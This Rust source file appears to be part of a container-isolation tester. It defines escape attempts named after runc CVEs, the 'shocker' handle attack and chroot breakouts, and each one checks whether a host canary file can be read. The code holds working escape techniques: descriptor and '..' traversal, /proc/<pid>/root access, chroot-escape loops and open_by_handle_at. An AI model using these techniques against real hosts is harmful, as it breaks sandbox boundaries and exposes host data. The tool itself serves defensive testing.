//! Descriptors and directories of the host that were left open: by them every wall is walked round.

use std::{
    fs::{self, File},
    os::{
        fd::{AsFd, AsRawFd},
        unix::fs::MetadataExt as _,
    },
};

use rustix::{
    fs::{CWD, Mode, OFlags, openat},
    process::{chdir, chroot, fchdir},
};

use super::tools::{has_token, read_all, reads_token, strangers};
use crate::{
    attempt::{Attempt, Tried, attempt, no_effect},
    ground::Ground,
    raw::{self, Arg},
};

/// How far up a way out goes.
const UP: &str = "../../../../../../../../../../../../../../../..";

pub(super) const ATTEMPTS: &[Attempt] = &[
    attempt(
        "fd.inherited",
        "runc CVE-2024-21626, CVE-2016-9962",
        "any descriptor beyond standard input, output and errors was left open",
        inherited,
    ),
    attempt(
        "fd.dotdot",
        "runc CVE-2024-21626",
        "a canary file of the host by `..` from any open directory",
        from_descriptors,
    ),
    attempt(
        "fd.cwd",
        "runc CVE-2024-21626",
        "a canary file of the host by `..` from the working directory",
        from_cwd,
    ),
    attempt(
        "fd.init",
        "runc CVE-2016-9962",
        "a canary file of the host through a descriptor of process 1",
        from_init,
    ),
    attempt(
        "fd.init-root",
        "runc CVE-2024-21626",
        "a canary file of the host below the root of a process that the job did not start",
        from_roots,
    ),
    attempt(
        "fd.init-cwd",
        "runc CVE-2024-21626",
        "a canary file of the host from the working directory of such a process",
        from_cwds,
    ),
    attempt(
        "fd.init-program",
        "runc CVE-2019-5736",
        "the host's own program, opened through /proc/1/exe",
        init_program,
    ),
    attempt(
        "fd.chroot",
        "chroot(2), the oldest way out",
        "a chroot into a directory below while the working directory stays above",
        out_of_chroot,
    ),
    attempt(
        "fd.chroot-fchdir",
        "chroot(2), the oldest way out",
        "the same through an open directory and fchdir",
        out_of_chroot_by_descriptor,
    ),
    attempt(
        "fd.handle",
        "shocker (docker, 2014)",
        "the canary by its file handle, from a bind of the same file system",
        by_handle,
    ),
];

fn inherited(ground: &Ground) -> Tried {
    let Some(fd) = ground.inherited.first() else {
        return Err(no_effect("none is open"));
    };
    let link = fs::read_link(format!("/proc/self/fd/{fd}")).unwrap_or_default();
    Ok(format!("descriptor {fd} is {}", link.display()))
}

/// Opens the canary by `..` from `dir`.
fn up_from(ground: &Ground, dir: impl AsFd) -> Tried {
    let path = format!("{UP}{}", ground.get("canary"));
    let flags = OFlags::RDONLY | OFlags::CLOEXEC;
    let file = File::from(openat(dir, path.as_str(), flags, Mode::empty())?);
    let bytes = read_all(file)?;
    if has_token(ground, &bytes) {
        Ok(format!("the canary's token was read as {path}"))
    } else {
        Err(no_effect("another file is there"))
    }
}

fn from_descriptors(ground: &Ground) -> Tried {
    let mut last = Err(no_effect("no directory is open"));
    for fd in &ground.inherited {
        // Of the numbers that were open at the start; none of them is ever closed.
        let Ok(dir) = File::open(format!("/proc/self/fd/{fd}")) else {
            continue;
        };
        let found = up_from(ground, &dir);
        if found.is_ok() {
            return found;
        }
        last = found;
    }
    last
}

fn from_cwd(ground: &Ground) -> Tried {
    up_from(ground, CWD)
}

fn from_init(ground: &Ground) -> Tried {
    let mut last = Err(no_effect("nothing is open there"));
    for process in strangers(ground) {
        for entry in fs::read_dir(format!("/proc/{process}/fd"))?.flatten() {
            let path = entry.path();
            // Not pipes: reading one would take away what it carries.
            let is_held = fs::metadata(&path).is_ok_and(|found| found.is_file() || found.is_dir());
            if !is_held {
                continue;
            }
            if let Ok(dir) = File::open(&path) {
                let found = if dir.metadata().is_ok_and(|m| m.is_dir()) {
                    up_from(ground, &dir)
                } else {
                    reads_token(ground, &path)
                };
                if found.is_ok() {
                    return found;
                }
                last = found;
            }
        }
    }
    last
}

fn through(ground: &Ground, link: &str) -> Tried {
    let mut last = Err(no_effect("no such process is seen"));
    for process in strangers(ground) {
        let path = format!("/proc/{process}/{link}{}", ground.get("canary"));
        last = reads_token(ground, path);
        if last.is_ok() {
            return last;
        }
    }
    last
}

fn from_roots(ground: &Ground) -> Tried {
    through(ground, "root")
}

fn from_cwds(ground: &Ground) -> Tried {
    through(ground, &format!("cwd/{UP}"))
}

/// The program of process 1 is the host's, unless process 1 is the command itself.
fn init_program(_: &Ground) -> Tried {
    let init = File::open("/proc/1/exe")?;
    let own = fs::metadata("/proc/self/exe")?;
    let found = init.metadata()?;
    if (own.dev(), own.ino()) == (found.dev(), found.ino()) {
        return Err(no_effect("it is the job's own"));
    }
    Ok("the program of process 1 was opened".to_owned())
}

/// Makes the attempt's root what is above all, where a root is only a chroot.
pub(super) fn leave_chroot() -> std::io::Result<()> {
    fs::create_dir_all("/tmp/below")?;
    chdir("/")?;
    chroot("/tmp/below")?;
    for _ in 0..32 {
        chdir("..")?;
    }
    Ok(chroot(".")?)
}

fn out_of_chroot(ground: &Ground) -> Tried {
    leave_chroot()?;
    reads_token(ground, ground.get("canary"))
}

fn out_of_chroot_by_descriptor(ground: &Ground) -> Tried {
    fs::create_dir_all("/tmp/below")?;
    let top = File::open("/")?;
    chroot("/tmp/below")?;
    fchdir(&top)?;
    up_from(ground, CWD)
}

fn by_handle(ground: &Ground) -> Tried {
    // type:hex, as name_to_handle_at gave it outside.
    let (kind, hex) = ground
        .get("handle")
        .split_once(':')
        .ok_or_else(|| no_effect("no handle is known"))?;
    let bytes: Vec<u8> = (0..hex.len() / 2)
        .filter_map(|at| u8::from_str_radix(&hex[at * 2..at * 2 + 2], 16).ok())
        .collect();
    let mut handle = Vec::new();
    handle.extend_from_slice(&u32::try_from(bytes.len()).unwrap_or(0).to_ne_bytes());
    handle.extend_from_slice(&kind.parse::<i32>().unwrap_or(0).to_ne_bytes());
    handle.extend_from_slice(&bytes);
    let bind = File::open(ground.get("bind"))?;
    let fd = raw::call(
        libc::SYS_open_by_handle_at,
        &mut [
            Arg::N(bind.as_raw_fd().into()),
            Arg::R(&handle),
            Arg::N(libc::O_RDONLY.into()),
        ],
    )?;
    let bytes = read_all(File::from(raw::own(fd)))?;
    if has_token(ground, &bytes) {
        Ok("the canary was opened by its handle".to_owned())
    } else {
        Err(no_effect("another file has that handle"))
    }
}
